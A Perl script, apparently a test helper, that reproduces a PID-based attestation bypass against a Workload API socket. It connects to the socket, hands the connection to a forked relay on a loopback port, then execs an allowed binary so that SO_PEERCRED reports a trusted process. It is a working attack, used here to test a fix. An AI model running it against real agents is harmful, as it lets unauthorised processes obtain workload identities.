#!/usr/bin/perl
# The attack of issue 9, item 3: connect to the Workload API socket, hand the connection to a child,
# then exec an allowed binary. The child relays the connection to a loopback TCP port so that a
# gRPC client (the test) can speak through it; the parent, whose pid SO_PEERCRED reports, becomes
# the allowed binary when it reads a line on stdin.
#   connect-then-exec.pl SOCKET BINARY [ARGS...]
use strict;
use warnings;
use IO::Socket::UNIX;
use IO::Socket::INET;
use IO::Select;
use Socket qw(SOCK_STREAM);

my ($path, @exec) = @ARGV;
my $agent = IO::Socket::UNIX->new(Type => SOCK_STREAM, Peer => $path) or die "connect $path: $!\n";
my $listen = IO::Socket::INET->new(Listen => 1, LocalAddr => '127.0.0.1', LocalPort => 0, ReuseAddr => 1)
  or die "listen: $!\n";
$| = 1;
print "pid $$ port ", $listen->sockport, "\n";
my $child = fork();
die "fork: $!\n" unless defined $child;
if ($child == 0) {
  my $client = $listen->accept or exit 1;
  my $sel = IO::Select->new($client, $agent);
  while (my @ready = $sel->can_read) {
    for my $h (@ready) {
      my $n = sysread($h, my $buf, 65536);
      exit 0 unless $n;
      my $to = $h == $client ? $agent : $client;
      my $off = 0;
      while ($off < $n) {
        my $w = syswrite($to, $buf, $n - $off, $off);
        exit 0 unless defined $w;
        $off += $w;
      }
    }
  }
  exit 0;
}
close $listen;
my $go = <STDIN>;
exec { $exec[0] } @exec or die "exec $exec[0]: $!\n";
